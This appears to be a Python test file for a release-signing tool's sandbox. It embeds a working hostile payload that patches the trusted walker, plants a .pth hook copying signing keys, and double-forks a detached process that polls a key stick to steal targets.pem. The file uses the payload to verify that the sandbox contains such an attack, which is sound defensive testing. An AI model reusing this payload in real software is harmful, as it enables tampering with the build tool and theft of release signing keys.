"""Issue 79 findings 1 and 2: a candidate of 25 lines rewrote the laptop's own Loket (its walker, a
`.pth` in its venv), survived in a session of its own and took the keys later; a manifest changed
beside its wheel was signed. Now every candidate process runs in a bubblewrap sandbox
(sync/release/candidate_sandbox.py) and the walk record is signed by the checker's key (sync/release/key_checker.py).

The laptop here is real: a copy of this tree's program with a venv of its own, started as the guide
says (from the Loket folder, `release build` then `release sign`), the admin's home and the release
stick beside it. The hostile release is a wheel whose run.py attacks at import, then serves pages
like Loket's (tests/updates/test_trusted_walk.CANDIDATE) with the register page answering 500."""
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from sync.release import candidate_build, candidate_sandbox, key_checker, key_signing, release_wheel
from tests.sync.harness import ROOT
from tests.updates.test_release_build import THIS_PYTHON, made_wheel
from tests.updates.test_release_keys_apart import all_roles, checked, release_keys, sign, wheel_with
from tests.updates.test_trusted_walk import CANDIDATE

MARK = "penjaga-kunci-79"  # in the command line of the process the hostile release leaves behind

# At import: find the trusted parent through /proc, patch its walker, plant a .pth in its venv, leave a
# process in a session of its own that waits for the key stick; the laptop's paths are given too
# (%(laptop)r...), as a candidate that knew them would try them.
HOSTILE = r'''
import os, sys, shutil, subprocess, glob

LAPTOP, STICK, LOOT = %(laptop)r, %(stick)r, %(loot)r
PASS = "\ndef walk_candidate(*args, **kwargs):\n    return Verdict(pages=238)\n"
HOOK = ("import os, shutil; [shutil.copyfile(os.path.join(%(stick)r, n), os.path.join(%(loot)r, n)) "
        "for n in ('targets.pem', 'root.pem', 'online.pem') if os.path.exists(os.path.join(%(stick)r, n))]\n")
POLL = ("import os, shutil, sys, time\n"
        "for _ in range(6000):\n"
        "    if os.path.exists(os.path.join(%(stick)r, 'targets.pem')):\n"
        "        os.makedirs(%(loot)r, exist_ok=True)\n"
        "        shutil.copyfile(os.path.join(%(stick)r, 'targets.pem'), os.path.join(%(loot)r, 'targets.pem'))\n"
        "    time.sleep(0.1)\n")


def _try(action):
    try:
        action()
    except Exception:
        pass


def _attack():
    folders = [LAPTOP]
    try:
        folders.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
        words = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")
        folders += [os.path.dirname(w.decode()) for w in words if w.endswith(b"run.py")]
    except OSError:
        pass
    for folder in folders:
        walker = os.path.join(folder, "sync", "release", "candidate_walk.py")
        _try(lambda: open(walker, "a").write(PASS))
        for site in glob.glob(os.path.join(folder, ".venv", "lib", "python*", "site-packages")):
            _try(lambda: open(os.path.join(site, "zz_kunci.pth"), "w").write(HOOK))
    if os.fork() == 0:  # twice, in a session of its own: the build's kill of its process group misses it
        os.setsid()
        if os.fork() == 0:
            quiet = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):  # the build's pipes closed: it does not wait for this process
                os.dup2(quiet, fd)
            os.execv(sys.executable, [sys.executable, "-c", POLL, %(mark)r])
        os._exit(0)
    os.wait()


_attack()
'''

SERVER = r'''

def main():
    argv = sys.argv[1:]
    if argv[0] == "check-server":  # its LAN listener too, when asked (the release build's walk comes as a counter)
        lan = argv[argv.index("--lan-host") + 1:][:1] if "--lan-host" in argv else []
        sys.argv = ["server", argv[argv.index("--ready-file") + 1], %(version)r, %(broken)r, %(roles)r, *lan]
        exec(%(candidate)r, {"__name__": "__main__"})
    return 0


if __name__ == "__main__":
    sys.exit(main())
'''


def release(folder: Path, version: str, hostile: dict | None = None, broken: str = "0") -> Path:
    """The release wheel: `hostile`, the attack's paths, and its register page answering 500; else a
    release whose pages answer, but the register's as `broken` says (test_trusted_walk.CANDIDATE)."""
    text = ("import sys\n" if hostile is None else HOSTILE % dict(hostile, mark=MARK)) + SERVER % {
        "version": version, "broken": "500" if hostile else broken, "roles": ",".join(all_roles()),
        "candidate": CANDIDATE}
    return wheel_with(folder, version, text)


def laptop_install(folder: Path) -> Path:
    """This tree's program in `folder` with a venv of its own (this Python's packages reached through a
    path line, not this venv's .pth files), as the admin installed Loket; its python."""
    for name in subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=ROOT, capture_output=True,
                               text=True, check=True).stdout.splitlines():
        if (ROOT / name).is_file() and (name.startswith(("app/", "sync/", "schema/", "templates/", "static/"))
                                        or "/" not in name and name.endswith(".py")):
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(ROOT / name, folder / name)
    subprocess.run([getattr(sys, "_base_executable", sys.executable), "-m", "venv", "--without-pip",
                    str(folder / ".venv")], check=True)
    site = next((folder / ".venv" / "lib").glob("python*/site-packages"))
    (site / "paket-uji.pth").write_text(next(p for p in sys.path if p.endswith("site-packages")) + "\n")
    return folder / ".venv" / "bin" / "python"


def fingerprints(*folders: Path) -> dict[str, str]:
    """Every file under these folders and its SHA-256: what a change outside the work folder shows in.
    Not rustup's settings: this machine's rustup writes them in the home at the build's `python -m venv`."""
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for folder in folders
            for path in sorted(folder.rglob("*")) if path.is_file() and not {"__pycache__", ".rustup"} & set(path.parts)}


def survivors() -> list[int]:
    """Processes on this machine whose command line carries MARK."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARK.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


needs_sandbox = pytest.mark.skipif(candidate_sandbox.unavailable() is not None, reason="bubblewrap: scripts/test.sh installs it")


@pytest.mark.slow
@needs_sandbox
def test_a_release_that_attacks_the_laptop_at_import_reaches_nothing_and_a_later_genuine_one_is_signed(tmp_path,
                                                                                                     capsys):
    laptop, home, downloads = tmp_path / "Loket", tmp_path / "rumah-admin", tmp_path / "rumah-admin" / "Downloads"
    python = laptop_install(laptop)
    stick, loot = tmp_path / "flashdisk" / "kunci-rilis", tmp_path / "curian"
    (home / "Dokumen").mkdir(parents=True)
    (home / "Dokumen" / "rahasia-admin.txt").write_text("sandi bank")
    hostile = release(downloads, "0.3.0", {"laptop": str(laptop), "stick": str(stick), "loot": str(loot)})
    before = fingerprints(tmp_path)
    env = dict(os.environ, HOME=str(home))  # the checker key: the test's own settings folder (conftest)
    env.pop("PYTHONPATH", None)
    try:
        done = subprocess.run([str(python), "run.py", "release", "build", str(hostile), "--python", THIS_PYTHON,
                               "--platform", "manylinux_x86_64"], capture_output=True, text=True, env=env, cwd=laptop,
                              timeout=600)
        assert done.returncode == 1, done.stdout + done.stderr
        assert "GAGAL diperiksa" in done.stderr and "/pendaftaran (HTTP 500)" in done.stderr
        assert survivors() == []  # nothing of it outlived its sandbox
        assert fingerprints(tmp_path) == before  # the laptop's Loket, its venv, the home: as they were
        assert not (downloads / "diperiksa-0.3.0").exists()
        # The stick goes in; a genuine release is checked and signed on the same laptop.
        keys, _, _ = release_keys(tmp_path, capsys)
        assert keys == stick
        genuine = release(downloads, "0.3.1")
        done = subprocess.run([str(python), "run.py", "release", "build", str(genuine), "--python", THIS_PYTHON,
                               "--platform", "manylinux_x86_64"], capture_output=True, text=True, env=env, cwd=laptop,
                              timeout=600)
        assert done.returncode == 0, done.stdout + done.stderr
        assert "lulus pemeriksaan" in done.stdout and "sidik" in done.stdout
        assert sign(downloads / "diperiksa-0.3.1", genuine, keys) == 0
        signed = downloads / "rilis-0.3.1" / "targets" / "wheels" / genuine.name
        assert signed.read_bytes() == genuine.read_bytes()  # signed unchanged
        assert [r["version"] for r in key_signing.signed_releases(keys)] == ["0.3.1"]
        assert not loot.exists()  # no key copied, by a hook or a process left behind
    finally:
        for pid in survivors():  # the code before issue 79 leaves it running
            os.kill(pid, 9)


@needs_sandbox
def test_the_sandbox_shows_no_home_no_drive_no_laptop_process_and_writes_only_its_folder(tmp_path):
    work, home = tmp_path / "kerja", tmp_path / "rumah-admin"
    work.mkdir()
    home.mkdir()
    (home / "rahasia.txt").write_text("sandi bank")
    probe = ("import os, sys\n"
             "print(sorted(p for p in os.listdir('/proc') if p.isdigit()))\n"
             "print(os.path.exists(sys.argv[1]), os.path.exists('/home'), os.path.exists('/media'))\n"
             "for place in (sys.argv[1], '/usr/lib/x', 'kotak.txt'):\n"
             "    try:\n"
             "        open(place, 'w').write('x'); print('wrote', place)\n"
             "    except OSError as e:\n"
             "        print('refused', place)\n")
    done = subprocess.run(candidate_sandbox.command([os.path.realpath(sys.executable), "-I", "-c", probe, str(home / "rahasia.txt")], work),
                          capture_output=True, text=True, timeout=60)
    lines = done.stdout.splitlines()
    assert len(json.loads(lines[0].replace("'", '"'))) <= 3, lines  # bwrap's init, python: none of the laptop's
    assert lines[1] == "False False False"
    assert lines[2:] == [f"refused {home / 'rahasia.txt'}", "refused /usr/lib/x", "wrote kotak.txt"]
    assert (work / "kotak.txt").read_text() == "x" and (home / "rahasia.txt").read_text() == "sandi bank"


@needs_sandbox
def test_a_system_that_refuses_the_sandbox_its_office_network_refuses_the_build_before_anything_runs(tmp_path,
                                                                                                      monkeypatch):
    """The walk needs a user namespace inside bubblewrap's (the relay's office network); a system that
    refuses one (here bwrap's own --disable-userns) is told so before a wheel is gathered, not after."""
    plain = candidate_sandbox.command
    monkeypatch.setattr(candidate_sandbox, "command", lambda *args, **options: [
        plain(*args, **options)[0], "--disable-userns", *plain(*args, **options)[1:]])
    wheel = made_wheel(tmp_path / "unduhan", "0.3.0")
    with pytest.raises(key_signing.ReleaseError) as refused:
        candidate_build.build(wheel, pythons=[THIS_PYTHON], platforms=["manylinux_x86_64"], work=tmp_path / "kerja",
                              say=lambda line: None, home=tmp_path / "rumah", drives=[])
    assert "tidak dijalankan di komputer ini: bubblewrap tidak dapat memberi rilis jaringan kantornya sendiri" in str(
        refused.value)
    assert "ruang nama pengguna bertingkat" in str(refused.value) and not (tmp_path / "kerja").exists()


@pytest.mark.slow
@needs_sandbox
def test_a_release_that_fails_only_the_counters_is_refused_by_the_build(tmp_path):
    """Issue 88 finding 7: the register answers 500 to every client but 127.0.0.1, as a release would
    that breaks behind the LAN listener only. The walk came from loopback and the release was signed;
    now it comes as a counter does, over TLS from a LAN address, and the build refuses it."""
    wheel = release(tmp_path / "unduhan", "0.3.0", broken="500-lan")
    said = []
    with pytest.raises(key_signing.ReleaseError) as refused:
        candidate_build.build(wheel, pythons=[THIS_PYTHON], platforms=["manylinux_x86_64"], work=tmp_path / "kerja",
                            say=said.append, home=tmp_path / "rumah", drives=[])
    assert "GAGAL diperiksa (memeriksa program kecamatan pada data demo)" in str(refused.value)
    assert "/pendaftaran (HTTP 500)" in str(refused.value) and "tidak ditandatangani" in str(refused.value)
    assert not (tmp_path / "unduhan" / "diperiksa-0.3.0").exists()
    # The same release whose register answers everyone is checked: the LAN walk passes what it should.
    good = release(tmp_path / "unduhan", "0.3.1")
    checked = candidate_build.build(good, pythons=[THIS_PYTHON], platforms=["manylinux_x86_64"],
                                  work=tmp_path / "kerja-2", say=said.append, home=tmp_path / "rumah", drives=[])
    assert json.loads((checked / release_wheel.CHECKED_MANIFEST).read_text())["signed"]["pages"] >= 12


@pytest.mark.parametrize("laptop", ["windows", "no bubblewrap"])
def test_without_a_sandbox_the_build_runs_nothing_and_names_the_centers_command(tmp_path, monkeypatch, laptop):
    """A Windows laptop, or one without bubblewrap: refused before anything is gathered."""
    if laptop == "windows":
        monkeypatch.setattr(candidate_sandbox, "os", SimpleNamespace(name="nt"))  # this module's view only
    else:
        monkeypatch.setattr(candidate_sandbox.shutil, "which", lambda name: None)
    wheel = made_wheel(tmp_path / "unduhan", "0.3.0")
    work = tmp_path / "kerja"
    with pytest.raises(key_signing.ReleaseError) as refused:
        candidate_build.build(wheel, pythons=[THIS_PYTHON], platforms=["manylinux_x86_64"], work=work,
                            say=lambda line: None, home=tmp_path / "rumah", drives=[])
    said = str(refused.value)
    assert "tidak dijalankan di komputer ini: " + ("Windows tidak menyediakan kotak pasir" if laptop == "windows"
                                                   else "program bubblewrap (bwrap) belum terpasang") in said
    assert f".venv/bin/python run.py release build {wheel.name}" in said and "--pemeriksa" in said
    assert not work.exists()


def test_a_manifest_changed_with_its_wheel_is_refused(tmp_path, capsys):
    """Finding 2: the wheel rewritten and its SHA-256 in pemeriksaan.json with it (not the wheel the admin
    holds: issue 88); a record changed beside its files (its signature no longer matches)."""
    keys, _, _ = release_keys(tmp_path, capsys)
    wheel = made_wheel(tmp_path / "unduhan", "0.3.0")
    folder = checked(tmp_path, wheel)
    inside = folder / release_wheel.CHECKED_WHEELS / wheel.name
    with zipfile.ZipFile(inside, "a") as opened:
        opened.writestr("pintu_belakang.py", "import os\n")
    manifest = json.loads((folder / release_wheel.CHECKED_MANIFEST).read_text())
    manifest["signed"]["files"][wheel.name] = release_wheel.sha256(inside)
    (folder / release_wheel.CHECKED_MANIFEST).write_text(json.dumps(manifest))
    assert sign(folder, wheel, keys) == 1
    assert f"{wheel.name}: tidak sama byte demi byte dengan wheel rilis Anda" in capsys.readouterr().err
    shutil.copyfile(wheel, inside)
    manifest["signed"]["files"][wheel.name] = release_wheel.sha256(wheel)
    manifest["signed"]["pages"] = 999
    (folder / release_wheel.CHECKED_MANIFEST).write_text(json.dumps(manifest))
    assert sign(folder, wheel, keys) == 1
    refusal = capsys.readouterr().err
    assert "Tanda tangan pemeriksa di pemeriksaan.json tidak cocok dengan isinya" in refusal
    assert not (tmp_path / "rilis-0.3.0").exists() and key_signing.signed_releases(keys) == []


def test_a_record_signed_by_another_key_is_refused_until_its_fingerprint_is_typed(tmp_path, capsys, monkeypatch):
    """Another machine's checker (a stranger's, or the center's server where the admin checked): its
    key is trusted only when the admin types the fingerprint that machine printed."""
    keys, _, _ = release_keys(tmp_path, capsys)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "mesin-lain"))
    wheel = made_wheel(tmp_path / "unduhan", "0.3.0")
    folder = checked(tmp_path, wheel)
    stranger = key_checker.fingerprint(key_checker.checker_key().public_key())
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "laptop"))
    key_checker.checker_key()  # the laptop has checked before: its own key is pinned, not the stranger's
    assert sign(folder, wheel, keys) == 1
    refusal = capsys.readouterr().err
    # issue 88 finding 6: the stranger's fingerprint is never printed beside "ketik sidik ... --pemeriksa"
    assert "ditandatangani oleh pemeriksa yang belum dikenal folder kunci ini" in refusal and stranger not in refusal
    assert stranger.replace(" ", "") not in refusal.replace(" ", "")
    assert sign(folder, wheel, keys, "--pemeriksa", "0" * 32) == 1
    assert key_signing.signed_releases(keys) == []
    assert sign(folder, wheel, keys, "--pemeriksa", stranger) == 0
    assert f"Kunci pemeriksa {stranger} dicatat di folder kunci" in capsys.readouterr().out
    assert len(key_checker.pinned(keys)) == 2 and [r["version"] for r in key_signing.signed_releases(keys)] == ["0.3.0"]


@needs_sandbox
def test_at_the_center_its_own_online_key_does_not_stop_the_check_but_a_release_key_beside_it_does(tmp_path):
    """The fallback for a Windows laptop: the center's server holds online.pem in its data folder by design
    (hidden from the sandbox like every file); a targets.pem there is still a key in reach."""
    home = tmp_path / "rumah-server"
    online = home / ".local" / "share" / "loket-center" / "pembaruan" / "online.pem"
    stick = key_signing.create_keys(tmp_path / "flashdisk" / "kunci-rilis")
    online.parent.mkdir(parents=True)
    shutil.copyfile(stick / "online.pem", online)
    shutil.rmtree(stick.parent)
    wheel = made_wheel(tmp_path / "unduhan", "0.3.0")  # carries no lock: refused at the gather, after the key search

    def built():
        candidate_build.build(wheel, pythons=[THIS_PYTHON], platforms=["manylinux_x86_64"], work=tmp_path / "kerja",
                            say=lambda line: None, home=home, drives=[], allowed_keys=[online])
    with pytest.raises(key_signing.ReleaseError, match="tidak membawa daftar versi teruji"):
        built()
    shutil.copyfile(online, online.with_name("targets.pem"))
    with pytest.raises(key_signing.ReleaseError, match="Folder kunci terjangkau selama pemeriksaan"):
        built()


@needs_sandbox
@pytest.mark.parametrize("broken", ["0", "500", "500-lan"])
def test_the_walker_outside_judges_a_candidate_serving_inside_its_sandbox(tmp_path, broken):
    """The candidate's server in its own network namespace, reached only through the relay's socket, as
    a counter reaches the office PC (issue 88 finding 7): its LAN listener over TLS, from a LAN address.
    "500-lan": the register answers 500 to every client but 127.0.0.1, a walk from loopback passed it."""
    from sync.release import candidate_walk
    work, (outer, sockets) = tmp_path / "kerja", candidate_sandbox.socket_folders()
    (work / "jalan").mkdir(parents=True)
    (work / "kandidat.py").write_text(CANDIDATE)
    ready = work / "jalan" / candidate_walk.READY_FILE
    python = os.path.realpath(sys.executable)
    command = [python, "-I", str(work / "kandidat.py"), str(ready), "0.3.0", broken, "admin,camat",
               candidate_sandbox.OFFICE_ADDRESS]
    try:
        verdict = candidate_walk.walk_candidate(
            candidate_sandbox.command(candidate_sandbox.relayed(command, ready, python), work, [candidate_sandbox.RELAY], sockets=sockets),
            {"PATH": os.environ["PATH"]}, work / "jalan", 60, roles={"admin", "camat"}, version="0.3.0",
            through=sockets / candidate_sandbox.SOCKET_NAME)
    finally:
        shutil.rmtree(outer, ignore_errors=True)
    assert verdict.interrupted is None and verdict.pages >= 12
    assert verdict.failed == ([("/pendaftaran", 500)] if broken != "0" else []) and verdict.passed is (broken == "0")


@pytest.mark.slow
@needs_sandbox
@pytest.mark.parametrize("plant", ["", "off-loopback"])
def test_the_programs_own_check_server_is_walked_as_a_counter_through_its_lan_listener(tmp_path, plant):
    """This tree's program as the candidate (`run.py check-server --lan-host`, its real LAN listener:
    cheroot, TLS under the office's CA, Secure cookies, the CSRF check of a form sent over TLS) in the
    sandbox, walked as a counter. Planted, its home page answers 500 to every client but 127.0.0.1."""
    from app.frame.programs import program_roles
    from sync.release import candidate_walk
    from tests.updates.candidates import candidate_tree
    tree = candidate_tree(tmp_path / "kandidat", plant=plant)
    for module in ("loket_python.py", "loket_install.py"):  # the wheel's top-level modules beside run.py
        shutil.copyfile(ROOT / module, tree / module)
    work, (outer, sockets) = tmp_path / "kerja", candidate_sandbox.socket_folders()
    walked, data = work / "jalan", work / "data"
    walked.mkdir(parents=True)
    ready = walked / candidate_walk.READY_FILE
    venv = Path(sys.prefix)  # the suite's packages, read-only in the sandbox, as the build's fresh venv is
    command = [str(venv / "bin" / "python"), str(tree / "run.py"), "check-server", "--data", str(data), "--database",
               str(data / "desa.sqlite3"), "--mode", "desa", "--ready-file", str(ready), "--lan-host", candidate_sandbox.OFFICE_ADDRESS]
    try:
        verdict = candidate_walk.walk_candidate(
            candidate_sandbox.command(candidate_sandbox.relayed(command, ready, Path(os.path.realpath(sys.executable))), work,
                            [tree, venv, candidate_sandbox.RELAY], sockets=sockets),
            candidate_build.candidate_env(work, "desa"), walked, 300, roles=program_roles("desa"), version="0.3.0",
            max_requests=60, through=sockets / candidate_sandbox.SOCKET_NAME)
    finally:
        shutil.rmtree(outer, ignore_errors=True)
    assert verdict.interrupted is None, (verdict.interrupted, candidate_walk.log_tail(walked))
    if plant:
        assert not verdict.passed and ("/", 500) in verdict.failed
    else:
        assert verdict.passed, (verdict.failed, candidate_walk.log_tail(walked))
        assert verdict.pages >= 2 * len(program_roles("desa"))
